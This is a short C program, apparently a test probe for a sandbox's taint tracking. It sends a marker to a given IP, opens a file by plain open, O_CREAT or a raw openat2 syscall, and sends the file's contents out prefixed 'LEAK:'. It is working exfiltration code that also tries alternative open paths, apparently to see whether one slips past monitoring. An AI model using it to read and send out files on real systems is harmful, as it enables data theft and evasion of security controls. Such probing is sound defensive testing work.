// readsend IP MODE PATH : sends "PRE" first, then opens PATH by MODE, reads, sends content
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>
#include <linux/openat2.h>
#include <errno.h>
#include "send.c"
int main(int argc,char**argv){
  const char*ip=argv[1],*mode=argv[2],*path=argv[3];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int fd=-1;
  if(!strcmp(mode,"plain")) fd=open(path,O_RDONLY);
  else if(!strcmp(mode,"creat")) fd=open(path,O_RDONLY|O_CREAT,0644);
  else if(!strcmp(mode,"openat2")){ struct open_how h={.flags=O_RDONLY}; fd=syscall(SYS_openat2,AT_FDCWD,path,&h,sizeof h);}
  printf("open(%s,%s) = %d errno=%s\n",mode,path,fd,fd<0?strerror(errno):"-");
  if(fd<0) return 1;
  char buf[4096]; ssize_t n=read(fd,buf,sizeof buf-1); if(n<0){perror("read");return 1;} buf[n]=0;
  printf("READ %zd bytes: %.40s\n",n,buf);
  char msg[4200]; int m=snprintf(msg,sizeof msg,"LEAK:%s",buf);
  printf("POST send: %d\n", send_buf(ip,msg,m));
  return 0;
}
